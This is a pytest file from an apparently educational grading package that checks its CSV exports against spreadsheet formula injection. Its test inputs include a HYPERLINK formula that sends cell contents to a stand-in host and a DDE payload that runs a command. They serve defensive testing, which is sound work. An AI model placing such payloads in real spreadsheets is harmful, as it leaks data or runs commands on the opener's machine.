"""No cell of a CSV we write is a formula (OWASP's CSV-injection rule), and grades.csv reads back exactly."""

from __future__ import annotations

import csv

import pytest

from dlcourse.grading import exports, grades, spreadsheet

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1", "\r=1",
           "'=already quoted", "plain", "李雷"]


def _cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def _write_all(tmp_path):
    rows = [{"student": s, "chapter": "ch00_start", "score": "3", "max_score": "6", "status": "graded",
             "rel_error": "3", "detail": "=cmd|' /C calc'!A0", "failures": "", "sha256": ""} for s in HOSTILE]
    grades.write_grades_csv(rows, tmp_path / "grades.csv", ["rel_error"])
    roster = {s: {"lms_id": s, "name": "=" + s, "section": "+S1", "sis_user_id": "@x", "sis_login_id": "-y"}
              for s in HOSTILE}
    paths = exports.write_exports(rows, tmp_path / "exports", roster)
    return rows, [tmp_path / "grades.csv", *paths.values()]


def test_no_cell_is_a_formula(tmp_path):
    _, files = _write_all(tmp_path)
    for path in files:
        bad = [c for c in _cells(path) if c.startswith(spreadsheet.TRIGGERS)]
        assert not bad, f"{path.name}: formula cells {bad}"


def test_the_check_fails_without_the_defence(tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheet, "safe_cell", lambda v: "" if v is None else str(v))
    _, files = _write_all(tmp_path)
    assert any(c.startswith(spreadsheet.TRIGGERS) for path in files for c in _cells(path))


def test_grades_csv_reads_back_what_was_written(tmp_path):
    rows, _ = _write_all(tmp_path)
    back = grades.read_grades_csv(tmp_path / "grades.csv")
    assert [r["student"] for r in back] == HOSTILE
    assert back[0]["detail"] == rows[0]["detail"]
    assert grades.read_grades_csv_header(tmp_path / "grades.csv")[:2] == ["student", "chapter"]


@pytest.mark.parametrize("text", HOSTILE + ["", "'", "''x"])
def test_safe_cell_round_trips(text):
    assert spreadsheet.read_cell(spreadsheet.safe_cell(text)) == text
